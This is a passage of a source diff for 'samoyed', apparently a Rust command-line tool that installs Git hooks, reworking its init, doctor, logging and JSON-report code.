+    /// Build a warning with a remediation hint.
+    fn warn(name: &'static str, detail: impl Into<String>, hint: &'static str) -> Self {
+        DoctorCheck {
+            name,
+            status: CheckStatus::Warn,
+            detail: detail.into(),
+            hint: Some(hint),
         }
-    };
+    }
 
-    let resolved = canonicalize_allowing_nonexistent(&candidate)
-        .map_err(|e| format!("{} '{}': {}", ERR_FAILED_RESOLVE_SAMOYED_DIR, dirname, e))?;
+    /// Build a failing check with a remediation hint.
+    fn fail(name: &'static str, detail: impl Into<String>, hint: &'static str) -> Self {
+        DoctorCheck {
+            name,
+            status: CheckStatus::Fail,
+            detail: detail.into(),
+            hint: Some(hint),
+        }
+    }
 
-    if !resolved.starts_with(&git_root_canonical) {
-        return Err(format!(
-            "{} (path: {}, git root: {})",
-            ERR_OUTSIDE_GIT_REPO,
-            resolved.display(),
-            git_root_canonical.display()
-        ));
+    /// Render the check as one line, plus a hint line when present.
+    fn render(&self) -> String {
+        let line = format!("{:<6} {}: {}", self.status.label(), self.name, self.detail);
+        match self.hint {
+            Some(hint) => format!("{line}\n       hint: {hint}"),
+            None => line,
+        }
     }
+}
 
-    Ok(resolved)
+/// Optional checks enabled for `samoyed doctor`.
+#[derive(Clone, Copy, Debug, Default)]
+struct DoctorOptions {
+    /// Warn about active hooks left in `.git/hooks`
+    git_hooks_coexist: bool,
+    /// Compare SHA-256 digests of the generated scripts with the embedded ones
+    verify: bool,
 }
 
-/// Canonicalize a path, allowing for non-existent components.
-///
-/// This function resolves a path to its absolute form, handling cases where
-/// some components of the path don't exist yet. It walks up the path hierarchy
-/// until it finds an existing ancestor, canonicalizes that, then appends the
-/// remaining non-existent components.
-///
-/// # Arguments
-///
-/// * `path` - The path to canonicalize
-///
-/// # Returns
-///
-/// Returns the canonicalized absolute path, or an IO error if the path cannot be resolved
-///
-/// # Example
-///
-/// If `/home/user` exists but `/home/user/new_dir` doesn't, calling this with
-/// `/home/user/new_dir/file.txt` will return `/home/user/new_dir/file.txt` as
-/// an absolute path based on the canonical form of `/home/user`.
-fn canonicalize_allowing_nonexistent(path: &Path) -> std::io::Result<PathBuf> {
-    if path.exists() {
-        return path.canonicalize();
+/// Output format for commands that report to tools as well as humans.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, ValueEnum)]
+enum OutputFormat {
+    /// Human-readable text
+    #[default]
+    Human,
+    /// Machine-readable JSON
+    Json,
+}
+
+/// A Git release number, as reported by `git --version`.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+struct GitVersion {
+    major: u32,
+    minor: u32,
+    patch: u32,
+}
+
+impl fmt::Display for GitVersion {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}.{}.{}", self.major, self.minor, self.patch)
     }
+}
 
-    let mut components = Vec::new();
-    let mut current = path;
+/// Options controlling how `init_samoyed` runs.
+#[derive(Clone, Debug, Default)]
+struct InitOptions {
+    /// Report planned actions without touching disk or git config
+    dry_run: bool,
+    /// Skip backing up pre-existing hooks from `.git/hooks`
+    no_backup: bool,
+    /// Skip creating the sample `.samoyed/pre-commit`
+    no_samples: bool,
+    /// Do nothing if the installation is already up to date
+    quiet_if_installed: bool,
+    /// Overwrite a core.hooksPath that points to a non-Samoyed directory
+    force: bool,
+    /// Reset an existing `.samoyed/pre-commit` to the sample
+    overwrite_samples: bool,
+    /// Hooks to install; `None` installs every hook in `GIT_HOOKS`
+    hooks: Option<Vec<String>>,
+    /// Names outside `GIT_HOOKS` that also get a hook script
+    extra_hooks: Vec<String>,
+    /// Interpreter for generated hooks; `None` uses `DEFAULT_HOOK_SHELL`
+    shell: Option<String>,
+    /// Warn if git user.name or user.email is not configured
+    check_git_identity: bool,
+    /// Shell command run from the git root once everything is installed
+    post_install: Option<String>,
+    /// Turn advisory steps (other hook managers, `check_git_identity`,
+    /// `post_install`) into errors
+    strict: bool,
+    /// Skip the check for other hook managers (`migrate` replaces Husky on purpose)
+    ignore_hook_managers: bool,
+}
 
-    loop {
-        if current.exists() {
-            let mut canonical = current.canonicalize()?;
-            for component in components.iter().rev() {
-                canonical.push(component);
+/// Outcome of `init_samoyed`, rendered by `main` in the requested format.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+struct InitReport {
+    /// Resolved samoyed directory; `None` when init was bypassed
+    samoyed_dir: Option<PathBuf>,
+    /// Value written to core.hooksPath, relative to the git root
+    hooks_path: Option<String>,
+    /// Hooks that have a wrapper script in the `_` directory
+    hooks: Vec<&'static str>,
+    /// Non-standard hooks from `--extra-hooks` that have a wrapper script
+    extra_hooks: Vec<String>,
+    /// Whether SAMOYED=0 bypassed initialization
+    bypassed: bool,
+    /// Native hooks directory whose hooks were backed up, if any were
+    backed_up_from: Option<PathBuf>,
+    /// Filesystem and git config changes performed (or planned, in dry-run mode)
+    actions: Vec<InitAction>,
+}
+
+impl InitReport {
+    /// Render the report in the requested format.
+    ///
+    /// Human output only mentions noteworthy events, so a plain successful
+    /// install renders as `None` and prints nothing.
+    fn render(&self, format: OutputFormat) -> Option<String> {
+        match format {
+            OutputFormat::Json => Some(self.to_json()),
+            OutputFormat::Human if self.bypassed => Some(MSG_BYPASS_INIT.to_string()),
+            OutputFormat::Human => {
+                let native_hooks_dir = self.backed_up_from.as_ref()?;
+                let samoyed_dir = self.samoyed_dir.as_ref()?;
+                Some(format!(
+                    "{} ({} -> {})",
+                    MSG_BACKED_UP_HOOKS,
+                    native_hooks_dir.display(),
+                    samoyed_dir.join(BACKUP_DIR_NAME).display()
+                ))
             }
-            return Ok(canonical);
         }
+    }
 
-        match current.file_name() {
-            Some(name) => components.push(name.to_os_string()),
-            None => {
-                // We've reached a root that doesn't exist; this means the entire path is invalid
-                return Err(std::io::Error::new(
-                    std::io::ErrorKind::NotFound,
-                    ERR_UNABLE_RESOLVE_PATH,
-                ));
+    /// Summarize the installation and the next step for `init --summary`.
+    ///
+    /// Returns `None` when init was bypassed and nothing was installed.
+    fn summary(&self) -> Option<String> {
+        let hooks_path = self.hooks_path.as_deref()?;
+        let user_dir = hooks_path.strip_suffix("/_").unwrap_or(hooks_path);
+        let hook_name = if self.hooks.contains(&SAMPLE_HOOK_NAME) {
+            SAMPLE_HOOK_NAME
+        } else {
+            self.hooks
+                .first()
+                .copied()
+                .or_else(|| self.extra_hooks.first().map(String::as_str))?
+        };
+        let count = self.hooks.len() + self.extra_hooks.len();
+        Some(format!(
+            "Installed {} hook{} (core.hooksPath = {})\nNext: edit {}/{}, then try it with `{}/{}`",
+            count,
+            if count == 1 { "" } else { "s" },
+            hooks_path,
+            user_dir,
+            hook_name,
+            hooks_path,
+            hook_name
+        ))
+    }
+
+    /// Serialize the report as a JSON object.
+    fn to_json(&self) -> String {
+        let samoyed_dir = self.samoyed_dir.as_ref().map_or_else(
+            || "null".to_string(),
+            |dir| json_string(&dir.to_string_lossy()),
+        );
+        let hooks_path = self
+            .hooks_path
+            .as_deref()
+            .map_or_else(|| "null".to_string(), json_string);
+        let hooks = self
+            .hooks
+            .iter()
+            .copied()
+            .chain(self.extra_hooks.iter().map(String::as_str))
+            .map(json_string)
+            .collect::<Vec<_>>()
+            .join(", ");
+        format!(
+            "{{\n  \"samoyed_dir\": {samoyed_dir},\n  \"hooks_path\": {hooks_path},\n  \"hooks\": [{hooks}],\n  \"bypassed\": {}\n}}",
+            self.bypassed
+        )
+    }
+}
+
+/// A single filesystem or git configuration change made by `init_samoyed`.
+///
+/// Each init step returns the actions it performed, or would perform in dry-run
+/// mode, so the same description drives both execution and reporting.
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum InitAction {
+    /// Create a directory, including missing parents
+    CreateDir { path: PathBuf },
+    /// Write a file with the given Unix mode (`None` keeps the default) and content digest
+    WriteFile {
+        path: PathBuf,
+        mode: Option<u32>,
+        sha256: String,
+    },
+    /// Set a repository-local git config value
+    GitConfig { key: &'static str, value: String },
+}
+
+impl InitAction {
+    /// Build a `WriteFile` action, hashing the content that will be written.
+    fn write_file(path: PathBuf, mode: Option<u32>, content: &[u8]) -> Self {
+        InitAction::WriteFile {
+            path,
+            mode,
+            sha256: sha256_hex(content),
+        }
+    }
+
+    /// Render the action as a single-line JSON object.
+    fn to_json(&self) -> String {
+        match self {
+            InitAction::CreateDir { path } => format!(
+                r#"{{"action": "create_dir", "path": {}}}"#,
+                json_string(&path.to_string_lossy())
+            ),
+            InitAction::WriteFile { path, mode, sha256 } => format!(
+                r#"{{"action": "write_file", "path": {}, "mode": {}, "sha256": {}}}"#,
+                json_string(&path.to_string_lossy()),
+                mode.map_or_else(|| "null".to_string(), |m| json_string(&format!("{m:04o}"))),
+                json_string(sha256)
+            ),
+            InitAction::GitConfig { key, value } => format!(
+                r#"{{"action": "git_config", "key": {}, "value": {}}}"#,
+                json_string(key),
+                json_string(value)
+            ),
+        }
+    }
+
+    /// Describe the action as a human-readable line once it has been applied.
+    fn describe_applied(&self) -> String {
+        match self {
+            InitAction::CreateDir { path } => format!("Created directory {}", path.display()),
+            InitAction::WriteFile {
+                path,
+                mode: Some(mode),
+                ..
+            } => format!("Wrote {} (mode {mode:04o})", path.display()),
+            InitAction::WriteFile { path, .. } => format!("Wrote {}", path.display()),
+            InitAction::GitConfig { key, value } => format!("Ran: git config {key} {value}"),
+        }
+    }
+
+    /// Describe the action as a human-readable dry-run line.
+    fn describe(&self) -> String {
+        match self {
+            InitAction::CreateDir { path } => format!("Would create directory {}", path.display()),
+            InitAction::WriteFile {
+                path,
+                mode: Some(mode),
+                ..
+            } => format!("Would write {} (mode {mode:04o})", path.display()),
+            InitAction::WriteFile { path, .. } => format!("Would write {}", path.display()),
+            InitAction::GitConfig { key, value } => {
+                format!("Would run: git config {key} {value}")
             }
         }
+    }
+}
 
-        match current.parent() {
-            Some(parent) => current = parent,
-            None => {
-                return Err(std::io::Error::new(
-                    std::io::ErrorKind::NotFound,
-                    ERR_UNABLE_RESOLVE_PARENT,
-                ));
+/// Errors that stop `samoyed init`.
+///
+/// Failures from helpers shared with other commands (git queries, path
+/// validation) keep their message and are carried as `Other`.
+#[derive(Debug)]
+enum InitError {
+    /// A filesystem operation on `path` failed; `context` is the `ERR_*` message
+    Io {
+        context: &'static str,
+        path: PathBuf,
+        source: io::Error,
+    },
+    /// core.hooksPath is already set to a directory Samoyed does not manage
+    HooksPathConflict { hooks_path: String },
+    /// `--check-git-identity --strict` found unset identity keys
+    GitIdentityMissing { missing: Vec<&'static str> },
+    /// `--strict` found other hook managers, described as `Name (path)`
+    OtherHookManagers { found: Vec<String> },
+    /// `--post-install --strict` command did not succeed
+    PostInstallFailed { reason: String },
+    /// Another `init` holds the lock on `lock_path`
+    Locked { lock_path: PathBuf },
+    /// Any other failure, already formatted for the user
+    Other(String),
+}
+
+impl InitError {
+    /// Build a `map_err` adapter that wraps an IO error with its context and path.
+    fn io(context: &'static str, path: &Path) -> impl FnOnce(io::Error) -> Self {
+        let path = path.to_path_buf();
+        move |source| InitError::Io {
+            context,
+            path,
+            source,
+        }
+    }
+}
+
+impl fmt::Display for InitError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            InitError::Io {
+                context,
+                path,
+                source,
+            } => write!(f, "{} '{}': {}", context, path.display(), source),
+            InitError::HooksPathConflict { hooks_path } => write!(
+                f,
+                "{}: '{}' (pass --force to overwrite it)",
+                ERR_HOOKS_PATH_CONFLICT, hooks_path
+            ),
+            InitError::GitIdentityMissing { missing } => {
+                write!(f, "{}", identity_message(ERR_GIT_IDENTITY_MISSING, missing))
+            }
+            InitError::OtherHookManagers { found } => {
+                write!(
+                    f,
+                    "{}",
+                    hook_managers_message(ERR_OTHER_HOOK_MANAGERS, found)
+                )
             }
+            InitError::PostInstallFailed { reason } => {
+                write!(f, "{}: {}", ERR_POST_INSTALL_FAILED, reason)
+            }
+            InitError::Locked { lock_path } => write!(
+                f,
+                "{} (lock held on '{}'); try again once it has finished",
+                ERR_INIT_LOCKED,
+                lock_path.display()
+            ),
+            InitError::Other(message) => write!(f, "{}", message),
         }
     }
 }
 
-/// Create the directory structure for Samoyed
+impl std::error::Error for InitError {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        match self {
+            InitError::Io { source, .. } => Some(source),
+            _ => None,
+        }
+    }
+}
+
+impl From<String> for InitError {
+    fn from(message: String) -> Self {
+        InitError::Other(message)
+    }
+}
+
+impl From<InitError> for String {
+    fn from(err: InitError) -> Self {
+        err.to_string()
+    }
+}
+
+/// Main entry point for Samoyed
 ///
-/// Creates the main samoyed directory and the _ subdirectory.
+/// Parses command-line arguments and dispatches to appropriate handlers.
+/// If no command is provided, displays the help message and returns a success exit code.
+fn main() -> ExitCode {
+    let cli = Cli::parse();
+    let verbosity = if cli.quiet {
+        Verbosity::Quiet
+    } else if cli.verbose {
+        Verbosity::Verbose
+    } else {
+        Verbosity::Normal
+    };
+    VERBOSITY.store(verbosity as u8, Ordering::Relaxed);
+
+    if cli.version {
+        println!("{}", version_text(verbosity == Verbosity::Verbose));
+        return ExitCode::SUCCESS;
+    }
+
+    if cli.list_hooks {
+        println!("{}", supported_hooks_text());
+        return ExitCode::SUCCESS;
+    }
+
+    // Resolve every git command and relative path against --cwd, like `git -C`
+    if let Some(cwd) = &cli.cwd
+        && let Err(e) = env::set_current_dir(cwd)
+    {
+        return exit_code_from(Err(format!(
+            "{} '{}': {}",
+            ERR_FAILED_CHANGE_DIR,
+            cwd.display(),
+            e
+        )));
+    }
+
+    match cli.command {
+        Some(Commands::Init {
+            dirname,
+            dry_run,
+            format,
+            no_backup,
+            no_samples,
+            summary,
+            quiet_if_installed,
+            force,
+            reset_samples,
+            hooks,
+            extra_hooks,
+            shell,
+            check_git_identity,
+            post_install,
+            strict,
+        }) => {
+            let dirname = resolve_dirname(dirname);
+            // Keep stdout parseable: only the JSON document may go there
+            INFO_TO_STDERR.store(format == OutputFormat::Json, Ordering::Relaxed);
+            let options = InitOptions {
+                dry_run,
+                no_backup,
+                no_samples,
+                quiet_if_installed,
+                force,
+                overwrite_samples: reset_samples,
+                hooks,
+                extra_hooks,
+                shell,
+                check_git_identity,
+                post_install,
+                strict,
+                ignore_hook_managers: false,
+            };
+            let result = init_samoyed(&dirname, &options).map_err(String::from);
+            exit_code_from(result.map(|report| {
+                if dry_run && !report.bypassed {
+                    println!("{}", render_init_plan(&report.actions, format));
+                    return;
+                }
+                if format == OutputFormat::Json {
+                    println!("{}", report.to_json());
+                    return;
+                }
+                for action in &report.actions {
+                    log(LogLevel::Debug, &action.describe_applied());
+                }
+                if let Some(output) = report.render(format) {
+                    let level = if report.bypassed {
+                        LogLevel::Info
+                    } else {
+                        LogLevel::Warn
+                    };
+                    log(level, &output);
+                }
+                if summary && let Some(output) = report.summary() {
+                    log(LogLevel::Info, &output);
+                }
+            }))
+        }
+        Some(Commands::List {
+            dirname,
+            format,
+            json,
+        }) => {
+            let dirname = resolve_dirname(dirname);
+            let format = if json { ListFormat::Json } else { format };
+            exit_code_from(list_samoyed(&dirname, format))
+        }
+        Some(Commands::Doctor {
+            dirname,
+            git_hooks_coexist,
+            verify,
+        }) => {
+            let dirname = resolve_dirname(dirname);
+            let options = DoctorOptions {
+                git_hooks_coexist,
+                verify,
+            };
+            exit_code_from(doctor_samoyed(&dirname, options))
+        }
+        Some(Commands::Migrate { dirname }) => {
+            let dirname = resolve_dirname(dirname);
+            exit_code_from(migrate_samoyed(&dirname))
+        }
+        Some(Commands::Hooks {
+            command: HooksCommands::Rename { new_dirname, from },
+        }) => {
+            let from = resolve_dirname(from);
+            exit_code_from(rename_samoyed(&from, &new_dirname))
+        }
+        Some(Commands::Uninstall {
+            dirname,
+            purge,
+            force,
+        }) => {
+            let dirname = resolve_dirname(dirname);
+            exit_code_from(uninstall_samoyed(&dirname, purge, force))
+        }
+        Some(Commands::Reinstall) => exit_code_from(reinstall_samoyed()),
+        Some(Commands::ValidateDirname { dirname }) => exit_code_from(validate_dirname(&dirname)),
+        Some(Commands::Disable { dirname }) => {
+            let dirname = resolve_dirname(dirname);
+            exit_code_from(set_hooks_disabled(&dirname, true))
+        }
+        Some(Commands::Enable { dirname }) => {
+            let dirname = resolve_dirname(dirname);
+            exit_code_from(set_hooks_disabled(&dirname, false))
+        }
+        None => ExitCode::SUCCESS,
+    }
+}
+
+/// Pick the samoyed dirname: the CLI argument, then `SAMOYED_DIR`, then `.samoyed`
+///
+/// The result is validated later by `validate_samoyed_dir`, like any dirname.
 ///
 /// # Arguments
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dirname` - The dirname given on the command line, if any
 ///
 /// # Returns
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn create_directory_structure(samoyed_dir: &Path) -> Result<(), String> {
-    // Create main samoyed directory
-    fs::create_dir_all(samoyed_dir)
-        .map_err(|e| format!("{}: {}", ERR_FAILED_CREATE_SAMOYED_DIR, e))?;
-
-    // Create _ subdirectory
-    let underscore_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
-    fs::create_dir_all(&underscore_dir)
-        .map_err(|e| format!("{}: {}", ERR_FAILED_CREATE_WRAPPER_DIR, e))?;
-
-    Ok(())
+/// Returns the dirname to use; an empty `SAMOYED_DIR` is ignored
+fn resolve_dirname(dirname: Option<String>) -> String {
+    dirname
+        .or_else(|| {
+            env::var(SAMOYED_DIR_VARIABLE)
+                .ok()
+                .filter(|value| !value.is_empty())
+        })
+        .unwrap_or_else(|| DEFAULT_SAMOYED_DIR.to_string())
 }
 
-/// Copy the embedded wrapper script to _/samoyed
-///
-/// The script is copied with platform-appropriate permissions:
-/// - Unix: 644 permissions (rw-r--r--) since the wrapper is sourced, not executed
-/// - Windows: Default filesystem permissions (no Unix-style permission bits)
+/// Build the text printed by `--version`
 ///
 /// # Arguments
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// * `verbose` - Also include the commit, build date and target triple
 ///
 /// # Returns
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn copy_wrapper_script(samoyed_dir: &Path) -> Result<(), String> {
-    let wrapper_path = samoyed_dir.join(WRAPPER_DIR_NAME).join(WRAPPER_SCRIPT_NAME);
-
-    // Write the embedded script
-    fs::write(&wrapper_path, SAMOYED_WRAPPER_SCRIPT)
-        .map_err(|e| format!("{}: {}", ERR_FAILED_WRITE_WRAPPER, e))?;
-
-    // Set permissions based on platform:
-    // - Unix: 644 (rw-r--r--) because the wrapper is sourced, not executed
-    // - Windows: Allow default permissions (may be executable, which is acceptable)
-    #[cfg(unix)]
-    {
-        let metadata = fs::metadata(&wrapper_path)
-            .map_err(|e| format!("{}: {}", ERR_FAILED_GET_METADATA, e))?;
-        let mut permissions = metadata.permissions();
-        permissions.set_mode(0o644);
-        fs::set_permissions(&wrapper_path, permissions)
-            .map_err(|e| format!("{}: {}", ERR_FAILED_SET_PERMISSIONS, e))?;
+/// Returns `samoyed X.Y.Z`, followed by build metadata lines when verbose
+fn version_text(verbose: bool) -> String {
+    let mut text = format!("samoyed {}", env!("CARGO_PKG_VERSION"));
+    if verbose {
+        text.push_str(&format!(
+            "\ncommit: {}\nbuilt: {}\ntarget: {}",
+            env!("SAMOYED_GIT_SHA"),
+            env!("SAMOYED_BUILD_DATE"),
+            env!("SAMOYED_TARGET")
+        ));
     }
-
-    // On Windows, file permissions work differently than Unix
-    // The Windows filesystem will handle executable attributes automatically
-    // It's acceptable for the wrapper to be executable on Windows
-
-    Ok(())
+    text
 }
 
-/// Create hook scripts in the _ directory
+/// Build the text printed by `--list-hooks`
 ///
-/// Creates all Git hook scripts with platform-appropriate permissions:
-/// - Unix: 755 permissions (rwxr-xr-x) to make scripts executable
-/// - Windows: Default filesystem permissions (executable attribute handled automatically)
+/// # Returns
 ///
-/// Each script sources the shared wrapper so user hooks run consistently.
+/// Returns one line per hook in `GIT_HOOKS`, with its name padded to a common
+/// width followed by its description
+fn supported_hooks_text() -> String {
+    let width = GIT_HOOKS.iter().map(|hook| hook.len()).max().unwrap_or(0);
+    GIT_HOOKS
+        .iter()
+        .map(|hook| format!("{:<width$}  {}", hook, hook_description(hook)))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Convert a command result into a process exit code
 ///
-/// # Arguments
+/// Errors are printed to stderr before returning a failure exit code.
+fn exit_code_from(result: Result<(), String>) -> ExitCode {
+    result.map_or_else(
+        |err| {
+            log(LogLevel::Error, &err);
+            ExitCode::FAILURE
+        },
+        |_| ExitCode::SUCCESS,
+    )
+}
+
+/// Print a message at the given level, honoring `--quiet` / `--verbose`
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// Informational messages go to stdout (stderr while `init --format json` owns
+/// stdout); errors, warnings and debug messages go to stderr. Messages are colored only when the target stream is a terminal and
+/// `NO_COLOR` is not set.
 ///
-/// # Returns
+/// # Arguments
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn create_hook_scripts(samoyed_dir: &Path) -> Result<(), String> {
-    let underscore_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
-
-    for hook_name in GIT_HOOKS {
-        let hook_path = underscore_dir.join(hook_name);
-
-        // Write the hook script
-        fs::write(&hook_path, HOOK_SCRIPT_TEMPLATE)
-            .map_err(|e| format!("{} '{}': {}", ERR_FAILED_WRITE_HOOK, hook_name, e))?;
-
-        // Set permissions to 755 (rwxr-xr-x)
-        #[cfg(unix)]
-        {
-            let metadata = fs::metadata(&hook_path)
-                .map_err(|e| format!("{}: {}", ERR_FAILED_GET_METADATA, e))?;
-            let mut permissions = metadata.permissions();
-            permissions.set_mode(0o755);
-            fs::set_permissions(&hook_path, permissions)
-                .map_err(|e| format!("{}: {}", ERR_FAILED_SET_PERMISSIONS, e))?;
-        }
+/// * `level` - Severity of the message
+/// * `message` - The message to print
+fn log(level: LogLevel, message: &str) {
+    let verbosity = match VERBOSITY.load(Ordering::Relaxed) {
+        0 => Verbosity::Quiet,
+        2 => Verbosity::Verbose,
+        _ => Verbosity::Normal,
+    };
+    if !level.is_enabled(verbosity) {
+        return;
     }
 
-    Ok(())
+    if level == LogLevel::Info && !INFO_TO_STDERR.load(Ordering::Relaxed) {
+        let color = use_color(io::stdout().is_terminal());
+        println!("{}", paint(level, message, color));
+    } else {
+        let color = use_color(io::stderr().is_terminal());
+        eprintln!("{}", paint(level, message, color));
+    }
 }
 
-/// Create a sample pre-commit hook in the samoyed directory
+/// Decide whether to emit ANSI colors
 ///
-/// This creates a simple pre-commit hook template that users can extend.
-/// The file is created with platform-appropriate permissions:
-/// - Unix: 644 permissions (rw-r--r--)
-/// - Windows: Default filesystem permissions
+/// Follows <https://no-color.org>: a non-empty `NO_COLOR` disables colors.
 ///
 /// # Arguments
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// * `is_terminal` - Whether the output stream is a terminal
 ///
 /// # Returns
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn create_sample_pre_commit(samoyed_dir: &Path) -> Result<(), String> {
-    let pre_commit_path = samoyed_dir.join(SAMPLE_HOOK_NAME);
-
-    // Write the sample pre-commit hook
-    fs::write(&pre_commit_path, SAMPLE_PRE_COMMIT_CONTENT)
-        .map_err(|e| format!("{}: {}", ERR_FAILED_WRITE_SAMPLE, e))?;
-
-    // Set permissions to 644 (rw-r--r--)
-    #[cfg(unix)]
-    {
-        let metadata = fs::metadata(&pre_commit_path)
-            .map_err(|e| format!("{}: {}", ERR_FAILED_GET_METADATA, e))?;
-        let mut permissions = metadata.permissions();
-        permissions.set_mode(0o644);
-        fs::set_permissions(&pre_commit_path, permissions)
-            .map_err(|e| format!("{}: {}", ERR_FAILED_SET_PERMISSIONS, e))?;
-    }
-
-    Ok(())
+/// Returns true if colors should be used
+fn use_color(is_terminal: bool) -> bool {
+    is_terminal && env::var_os("NO_COLOR").is_none_or(|value| value.is_empty())
 }
 
-/// Set the git config core.hooksPath to point to the _ directory
-///
-/// Uses `git config core.hooksPath` to configure Git to use our hooks.
-/// Sets a relative path from the git repository root to avoid Windows extended-length path issues.
-/// The path is normalized to use Unix-style separators for Git configuration compatibility.
+/// Wrap a message in the ANSI color of its level
 ///
 /// # Arguments
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// * `level` - Severity of the message
+/// * `message` - The message to color
+/// * `color` - Whether colors are enabled
 ///
 /// # Returns
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn set_git_hooks_path(samoyed_dir: &Path) -> Result<(), String> {
-    // Get git root to calculate relative path
-    let git_root = get_git_root()?;
-
-    // Canonicalize both paths to ensure consistent path representation
-    let git_root_canonical = git_root
-        .canonicalize()
-        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_GIT_ROOT, e))?;
-
-    let samoyed_dir_canonical = canonicalize_allowing_nonexistent(samoyed_dir)
-        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_SAMOYED, e))?;
-
-    // Calculate relative path from git root to hooks directory
-    let hooks_path = samoyed_dir_canonical.join(WRAPPER_DIR_NAME);
-    let relative_hooks_path = hooks_path
-        .strip_prefix(&git_root_canonical)
-        .map_err(|_| ERR_HOOKS_PATH_NOT_IN_REPO.to_string())?;
-
-    // Convert to string with Unix-style separators for Git config
-    let hooks_path_str = relative_hooks_path
-        .to_str()
-        .ok_or_else(|| ERR_INVALID_HOOKS_PATH.to_string())?
-        .replace('\\', "/");
-
-    let status = Command::new("git")
-        .args(["config", "core.hooksPath", &hooks_path_str])
-        .status()
-        .map_err(|e| format!("{}: {}", ERR_FAILED_SET_GIT_CONFIG, e))?;
-
-    if !status.success() {
-        return Err(ERR_FAILED_SET_HOOKS_PATH.to_string());
+/// Returns the message, colored if enabled and the level has a color
+fn paint(level: LogLevel, message: &str, color: bool) -> String {
+    match level.ansi_code() {
+        Some(code) if color => format!("\x1b[{code}m{message}\x1b[0m"),
+        _ => message.to_string(),
     }
-
-    Ok(())
 }
 
-/// Create a .gitignore file in the _ directory
+/// Initialize Samoyed in the current git repository
 ///
-/// The .gitignore contains a single asterisk to ignore all files in the directory.
-/// Only creates the file if it doesn't already exist.
+/// This function performs the following steps:
+/// 1. Checks if SAMOYED=0 (bypass mode), after validating the selected hooks
+/// 2. Verifies we're inside a git repository
+/// 3. Validates the samoyed directory path and locks `_/.init.lock` in it, so that
+///    concurrent runs fail instead of interleaving (not in dry-run mode)
+///    (returns early, before any warning, if `quiet_if_installed` is set and
+///    nothing needs changing; otherwise warns if Git predates core.hooksPath)
+/// 4. Refuses to replace a core.hooksPath set by another tool (unless `force` is set)
+///    and creates the directory structure
+/// 5. Copies the wrapper script
+/// 6. Creates hook scripts for the selected hooks
+/// 7. Creates sample pre-commit hook (unless `no_samples` is set)
+/// 8. Backs up executable hooks from `.git/hooks` (unless `no_backup` is set)
+/// 9. Sets git config core.hooksPath
+/// 10. Creates .gitignore in the _ directory (written with the lock, so that a
+///     lock file left by a killed run is never committed)
+/// 11. Runs the `post_install` command, if any (skipped in dry-run mode)
+///
+/// In dry-run mode every step only reports what it would do; nothing is written
+/// to disk and git config is left untouched.
 ///
 /// # Arguments
 ///
-/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `options` - Dry-run, backup and hook selection options
 ///
 /// # Returns
 ///
-/// Returns Ok(()) on success, or an error message on failure
-fn create_gitignore(samoyed_dir: &Path) -> Result<(), String> {
-    let gitignore_path = samoyed_dir.join(WRAPPER_DIR_NAME).join(GITIGNORE_NAME);
+/// Returns a report of the installation, including the actions performed (or
+/// planned, in dry-run mode), on success, or an `InitError` on failure.
+/// Apart from warnings, nothing is printed here; `main` renders the report.
+fn init_samoyed(dirname: &str, options: &InitOptions) -> Result<InitReport, InitError> {
+    let hooks = select_hooks(options.hooks.as_deref())?;
+    let extra_hooks = select_extra_hooks(&options.extra_hooks)?;
+    let shell = validate_shell(options.shell.as_deref().unwrap_or(DEFAULT_HOOK_SHELL))?;
 
-    // Only create if it doesn't exist
-    if !gitignore_path.exists() {
-        fs::write(&gitignore_path, GITIGNORE_CONTENT)
-            .map_err(|e| format!("{}: {}", ERR_FAILED_WRITE_GITIGNORE, e))?;
+    // Check for bypass mode
+    if check_bypass_mode() {
+        return Ok(InitReport {
+            bypassed: true,
+            ..InitReport::default()
+        });
     }
 
-    Ok(())
-}
+    let dry_run = options.dry_run;
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use std::fs;
-    use std::path::PathBuf;
-    use std::process::Command as StdCommand;
-    use tempfile::TempDir;
+    // Check if we're in a git repository
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
 
-    #[cfg(unix)]
-    use std::os::unix::fs::PermissionsExt;
+    // Validate and resolve the samoyed directory path
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
 
-    /// Test check_bypass_mode function
-    #[test]
+    // Serialize concurrent runs before any check or write; dropping the guard
+    // releases the lock
+    let mut init_lock = if dry_run {
+        None
+    } else {
+        Some(lock_init(&samoyed_dir)?)
+    };
+
+    // Every name that gets a script in the _ directory
+    let script_names: Vec<&str> = hooks
+        .iter()
+        .copied()
+        .chain(extra_hooks.iter().map(String::as_str))
+        .collect();
+
+    // Leave a consistent installation untouched, without repeating any warnings
+    if options.quiet_if_installed
+        && is_installation_current(
+            &git_root,
+            &samoyed_dir,
+            &script_names,
+            shell,
+            !options.no_samples,
+        )?
+    {
+        return Ok(InitReport {
+            samoyed_dir: Some(samoyed_dir),
+            hooks_path: get_git_hooks_path()?,
+            hooks,
+            extra_hooks,
+            ..InitReport::default()
+        });
+    }
+
+    // Older Git silently ignores core.hooksPath; an unparsable version is not fatal
+    if let Some(version) = git_version()
